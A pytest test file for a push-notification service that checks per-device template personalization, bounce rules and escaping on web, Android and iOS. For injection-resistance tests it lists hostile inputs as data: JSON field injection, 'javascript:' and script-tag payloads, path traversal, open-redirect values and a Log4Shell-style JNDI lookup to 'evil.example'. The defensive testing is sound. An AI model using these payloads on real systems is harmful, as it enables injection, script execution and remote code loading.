"""Each device gets texts with values of its own, and nobody reads braces."""

import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from notifications_app.content.tracking import make_token
from notifications_app.content.values import TargetId
from notifications_app.models import Delivery, Notification, Target
from pushsvc.common.ids import uuid7
from subscriptions_app.models import Subscription
from subscriptions_app.people.linking import devices_link
from tests import factories
from tests.pipeline import phones, support

URL = "https://shop.example/"
PERSONAL = {"personalize": True}
GERMAN = {"de": {"title": "Hallo {{ first_name | default: 'du' }}", "body": "Neu: {{ vars.sale }}"}}
SEND = {
    "title": "Hi {{ first_name | default: 'there' }}",
    "body": "{{ vars.sale }} off",
    "url": f"{URL}u/{{{{ external_id }}}}?t={{{{ platform }}}}",
    "data": {"points": "{{ points | default: 0 }}", "fixed": "x"},
    "vars": {"sale": "20 %"},
}
HOSTILE = (
    "{{ vars.sale }}",
    "{% if x %}",
    '"},"token":"stolen","x":{"y":"',
    "\\",
    '\\"',
    "\\u0022",
    "\u202eevil\u2066",
    "\u200f\u200eשלם",
    "😀" * 255,
    "javascript:alert(1)",
    "//evil.example/",
    "..",
    "</script><script>",
    "\x00\x1b[31m\n\r",
    "${jndi:ldap://evil.example}",
)


def know(subscription, language="", **attributes):
    Subscription.objects.filter(pk=subscription.pk).update(language=language, attributes=attributes)


def reasons(notification):
    """(code, detail) of each bounced recipient."""
    bounced = Delivery.objects.filter(notification_id=notification.pk).exclude(code="")
    return sorted(bounced.values_list("code", "detail"))


def shown_on_web(device):
    return json.loads(device.receipts[-1].plaintext)


def everywhere(sandbox, fcm, apns, channel, count):
    """Browsers, Android phones and iPhones: (device, subscription) of each."""
    phones.store_google(fcm, channel)
    phones.store_apple(apns, channel)
    return (
        factories.subscribe_browsers(sandbox, channel, count),
        factories.subscribe_androids(fcm, channel, count),
        factories.subscribe_iphones(apns, channel, count),
    )


def test_each_device_gets_its_own_texts_in_its_language(sandbox, fcm, apns, channel):
    browsers, androids, iphones = everywhere(sandbox, fcm, apns, channel, 2)
    for (_, first), (_, second) in (browsers, androids, iphones):
        know(first, language="de-AT", first_name="Anna", points=7.0)
        devices_link(channel=channel, links={first.id: "user 42"})
        know(second)

    notification = phones.send(
        channel, "web", "android", "ios", extras=PERSONAL | {"translations": GERMAN}, **SEND
    )

    assert support.counts(notification) == ("sent", 6, 6, 0)
    web = [shown_on_web(device) for device, _ in browsers]
    assert [(each["title"], each["body"]) for each in web] == [
        ("Hallo Anna", "Neu: 20 %"),
        ("Hi there", "20 % off"),
    ]
    assert [each["url"] for each in web] == [f"{URL}u/user%2042?t=web", f"{URL}u/?t=web"]
    assert [each["data"] for each in web] == [
        {"points": "7", "fixed": "x"},
        {"points": "0", "fixed": "x"},
    ]
    google = [device.receipts[0].message for device, _ in androids]
    assert google[0]["notification"] == {"title": "Hallo Anna", "body": "Neu: 20 %"}
    assert google[1]["notification"] == {"title": "Hi there", "body": "20 % off"}
    assert [each["data"]["points"] for each in google] == ["7", "0"]
    assert google[0]["data"]["url"] == f"{URL}u/user%2042?t=android"
    apple = [json.loads(device.receipts[0].payload) for device, _ in iphones]
    assert apple[0]["aps"]["alert"] == {"title": "Hallo Anna", "body": "Neu: 20 %"}
    assert apple[1]["aps"]["alert"] == {"title": "Hi there", "body": "20 % off"}
    assert [each["data"]["points"] for each in apple] == ["7", "0"]


def test_who_lacks_a_value_bounces_if_the_send_says_so(sandbox, fcm, apns, channel):
    devices = everywhere(sandbox, fcm, apns, channel, 3)
    for (_, first), (_, second), (_, third) in devices:
        know(first, first_name="Anna", city="Bonn")
        know(second, first_name="Bo")
        know(third, first_name="", city="Ulm")

    notification = phones.send(
        channel,
        "web", "android", "ios",
        title="{{ first_name | default: 'You' }} and {{ city }}",
        extras=PERSONAL | {"on_missing": "bounce"},
    )  # fmt: skip

    assert support.counts(notification) == ("sent", 9, 6, 3)
    assert reasons(notification) == [("not_personalizable", "city")] * 3
    assert [phones.received(each) for each in devices] == [[1, 0, 1]] * 3
    support.assert_exact(channel)


def test_a_body_that_comes_out_empty_bounces(sandbox, channel):
    (_, first), (_, second) = factories.subscribe_browsers(sandbox, channel, 2)
    know(first, text="Hello")
    know(second, text="\u200b\t")

    notification = phones.send(channel, "web", title="x", body=" {{ text }}", extras=PERSONAL)

    assert support.counts(notification) == ("sent", 2, 1, 1)
    assert reasons(notification) == [("not_personalizable", "body")]


def test_a_message_that_values_made_too_large_bounces(sandbox, fcm, apns, channel):
    devices = everywhere(sandbox, fcm, apns, channel, 2)
    for (_, first), (_, second) in devices:
        know(first, name="Anna")
        know(second, name="😀" * 255)

    data = {f"k{number}": "{{ name }}" for number in range(5)}
    notification = phones.send(
        channel, "web", "android", "ios", body="x", data=data, extras=PERSONAL
    )

    assert support.counts(notification) == ("sent", 6, 3, 3)
    assert [code for code, _ in reasons(notification)] == ["payload_too_large"] * 3


def test_an_empty_title_is_no_title_and_nothing_is_left_of_braces(sandbox, fcm, apns, channel):
    browsers, androids, iphones = everywhere(sandbox, fcm, apns, channel, 1)
    content = {"title": "{{ name }}", "body": "x", "image": f"{URL}i", "url": f"{URL}"}

    for ((_, row),) in (browsers, androids, iphones):
        know(row, name="\u200b")
    phones.send(channel, "web", "android", "ios", **content, extras=PERSONAL)

    assert "title" not in shown_on_web(browsers[0][0])
    shown = androids[0][0].receipts[0].message["notification"]
    assert shown == {"body": "x", "image": f"{URL}i"}
    alert = json.loads(iphones[0][0].receipts[0].payload)["aps"]["alert"]
    assert alert == {"body": "x"}


def test_a_title_alone_that_comes_out_empty_bounces(fcm, channel):
    phones.store_google(fcm, channel)
    (_, first), _ = factories.subscribe_androids(fcm, channel, 2)
    know(first, name="Anna")
    android = {"android": {"title": "{{ name }}", "body": None}}

    notification = phones.send(channel, "android", body="x", extras=PERSONAL | android)

    assert support.counts(notification) == ("sent", 2, 1, 1)
    assert reasons(notification) == [("not_personalizable", "title")]


def test_texts_that_fit_nowhere_bounce_before_the_call(sandbox, channel):
    ((_, row),) = factories.subscribe_browsers(sandbox, channel, 1)
    know(row, name="x" * 255)
    data = {f"k{number}": "{{ name }}" * 40 for number in range(5)}

    notification = phones.send(channel, "web", body="x", data=data, extras=PERSONAL)

    assert reasons(notification) == [("payload_too_large", "more than 4096 bytes")]


def test_title_and_body_are_cut(sandbox, channel):
    ((device, row),) = factories.subscribe_browsers(sandbox, channel, 1)
    know(row, name="n" * 255)

    phones.send(channel, "web", title="{{ name }}", body="{{ name }}" * 5, extras=PERSONAL)

    shown = shown_on_web(device)
    assert shown["title"] == "n" * 199 + "…"
    assert shown["body"] == "n" * 999 + "…"


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_cannot_leave_its_place(sandbox, fcm, apns, channel, value):
    """On no platform does it become a field, a tag, another address or a placeholder."""
    devices = everywhere(sandbox, fcm, apns, channel, 1)
    for ((_, row),) in devices:
        Subscription.objects.filter(pk=row.pk).update(attributes={"x": value.replace("\x00", "")})
    actions = [
        {"id": "a", "title": "{{ x | truncate: 9 }}", "url": f"{URL}a/{{{{ x | truncate: 9 }}}}"}
    ]

    notification = phones.send(
        channel,
        "web", "android", "ios",
        title="<{{ x }}>",
        body="Fresh bread",
        url=f"{URL}u/{{{{ x | truncate: 40 }}}}",
        data={"k": "{{ x | truncate: 40 }}"},
        vars={"sale": "20 %"},
        extras=PERSONAL | {"actions": actions},
    )  # fmt: skip

    assert support.counts(notification) == ("sent", 3, 3, 0)
    browser, android, iphone = (device for ((device, _),) in devices)
    google, apple = android.receipts[0].message, json.loads(iphone.receipts[0].payload)
    web = shown_on_web(browser)
    shown = [web, google["notification"], apple["aps"]["alert"]]
    clean = "".join(each for each in value if each >= " " and each not in "\x7f\u202e\u2066")
    for each in shown:
        assert each["title"] == ("<" + clean + ">" if len(clean) < 199 else "<" + clean[:198] + "…")
        assert each["body"] == "Fresh bread"
    assert set(web) == {"notification_id", "title", "body", "url", "data", "actions", "token"}
    assert set(google["data"]) == {"notification_id", "url", "actions", "token", "k"}
    assert set(apple) == {"aps", "notification_id", "url", "data", "actions", "token"}
    for each in (web, google["data"], apple):
        assert each["url"].startswith(f"{URL}u/")
        assert set(each["url"].removeprefix(f"{URL}u/")) <= set(
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789%._~-"
        )
        assert each["url"].rpartition("/")[2] != ".."
    for buttons in (web["actions"], json.loads(google["data"]["actions"]), apple["actions"]):
        assert [set(each) for each in buttons] == [{"id", "title", "url"}]
        assert buttons[0]["url"].startswith(f"{URL}a/")
    assert web["data"]["k"] == google["data"]["k"] == apple["data"]["k"]


def test_a_device_gets_no_link_that_its_values_would_spoil(sandbox, fcm, apns, channel):
    devices = everywhere(sandbox, fcm, apns, channel, 3)
    for (_, first), (_, second), (_, third) in devices:
        know(first, x="A 17", a="buy")
        know(second, x="%6aavascript", a="\\")
        know(third, x="/evil.example", a="%09")
    own = {
        "web": {"url": "/{{ x }}"},
        "android": {"url": "myshop:{{ x }}:1"},
        "ios": {"url": f"{URL}{{{{ x }}}}"},
        "actions": [{"id": "a", "title": "A", "ios_url": "myshop://a/{{ a }}"}],
    }

    notification = phones.send(channel, "web", "android", "ios", body="x", extras=PERSONAL | own)

    assert support.counts(notification) == ("sent", 9, 5, 4)
    assert reasons(notification) == [
        *[("not_personalizable", "actions.0.url")] * 2,
        *[("not_personalizable", "url")] * 2,
    ]
    (browser, _), (android, _), (iphone, _) = (first for first, _, _ in devices)
    assert shown_on_web(browser)["url"] == "/A%2017"
    assert android.receipts[0].message["data"]["url"] == "myshop:A%2017:1"
    shown = json.loads(iphone.receipts[0].payload)
    assert shown["url"] == f"{URL}A%2017"
    assert shown["actions"] == [{"id": "a", "title": "A", "url": "myshop://a/buy"}]
    support.assert_exact(channel)


def direct(channel, targets, **fields):
    notification = factories.make_direct_notification(channel, **fields)
    Target.objects.store(notification.pk, channel_id=channel.pk, targets=targets)
    support.plan(notification)
    return notification


def test_targets_have_values_of_their_own(sandbox, channel):
    pairs = factories.subscribe_browsers(sandbox, channel, 4)
    rows = [row for _, row in pairs]
    devices_link(channel=channel, links={rows[0].id: "ada", rows[1].id: "bob", rows[2].id: "ada"})
    notification = direct(
        channel,
        [
            TargetId(external_id="ada", vars={"order": "A-17", "eta": "today"}),
            TargetId(external_id="bob"),
            TargetId(subscription_id=rows[2].id, vars={"order": 18}),
            TargetId(subscription_id=rows[3].id, vars={"order": "D"}),
        ],
        body="{{ vars.order }} {{ vars.eta }} {{ external_id | default: 'nobody' }}",
        vars={"order": "?", "eta": "soon"},
        extras=PERSONAL,
    )

    support.deliver(notification)

    assert support.counts(notification) == ("sent", 4, 4, 0)
    assert [shown_on_web(device)["body"] for device, _ in pairs] == [
        "A-17 today ada",
        "? soon bob",
        "18 today ada",
        "D soon nobody",
    ]


def test_who_signs_in_meanwhile_gets_neither_words_nor_values_of_another(sandbox, channel):
    pairs = factories.subscribe_browsers(sandbox, channel, 3)
    rows = [row for _, row in pairs]
    devices_link(channel=channel, links={row.id: "ada" for row in rows})
    notification = direct(
        channel,
        [
            TargetId(external_id="ada", vars={"order": "of Ada"}),
            TargetId(external_id="bob", vars={"order": "of Bob"}),
        ],
        body="{{ vars.order }} {{ external_id }}",
        extras=PERSONAL,
    )
    devices_link(channel=channel, links={rows[0].id: "bob", rows[1].id: "eve"})

    support.deliver(notification)

    assert [code for code, _ in reasons(notification)] == ["person_changed"]
    assert shown_on_web(pairs[0][0])["body"] == "of Bob bob"
    assert not pairs[1][0].receipts
    assert shown_on_web(pairs[2][0])["body"] == "of Ada ada"


@pytest.mark.parametrize(
    ("fields", "columns"),
    [
        ({}, set()),
        ({"extras": PERSONAL}, set()),
        ({"body": "{{ name }}"}, set()),
        ({"body": "{{ name | default: 'x' }}", "extras": PERSONAL}, {"attributes"}),
        ({"body": "{{ timezone | default: 'x' }}", "extras": PERSONAL}, {"timezone"}),
        ({"body": "{{ vars.a | default: 'x' }}", "extras": PERSONAL}, set()),
        ({"body": "{{ platform }}", "extras": PERSONAL}, set()),
        ({"body": "{{ external_id | default: 'x' }}", "extras": PERSONAL}, {"external_id"}),
        (
            {"body": "x", "extras": PERSONAL | {"translations": {"de": {"title": "{{ a }}"}}}},
            {"attributes", "language"},
        ),
    ],
)
def test_only_what_the_texts_ask_for_is_read(sandbox, channel, fields, columns):
    factories.subscribe_browsers(sandbox, channel, 2)
    phones.plan(channel, "web", **fields)

    with CaptureQueriesContext(connection) as captured:
        support.deliver()

    (statement,) = [
        each["sql"]
        for each in captured
        if "subscriptions_app_subscription" in each["sql"] and "p256dh" in each["sql"]
    ]
    asked = ("timezone", "language", "attributes", "external_id")
    assert {name for name in asked if f"AS asked_{name}" in statement} == columns
    assert ("person" in statement) == ("external_id" in columns)


def test_a_link_of_a_click_has_the_devices_values(sandbox, channel, client):
    ((device, row),) = factories.subscribe_browsers(sandbox, channel, 1)
    know(row, code="a/b")
    url = f"{URL}{{{{ vars.sale }}}}/{{{{ code }}}}/{{{{ platform }}}}"
    values = {"sale": "20 %"}
    sent = phones.send(channel, "web", body="x", url=url, vars=values, extras=PERSONAL)
    token, of_deleted = shown_on_web(device)["token"], make_token(sent.pk, uuid7())

    assert client.get(f"/c/{token}").headers["Location"] == f"{URL}20%20%25/a%2Fb/web"
    assert client.get(f"/c/{of_deleted}").headers["Location"] == f"{URL}20%20%25//"
    Notification.objects.update(extras=None)
    assert "code" in client.get(f"/c/{token}").headers["Location"]


def test_a_test_and_a_message_after_its_deadline_are_judged_in_order(sandbox, channel):
    """What is overdue has expired, whatever the texts lack."""
    factories.subscribe_browsers(sandbox, channel, 1)
    notification = phones.plan(
        channel, "web", body="{{ a }}", extras=PERSONAL | {"on_missing": "bounce"}
    )
    support.end_time(notification)

    support.deliver(notification)

    assert [code for code, _ in reasons(notification)] == ["expired"]
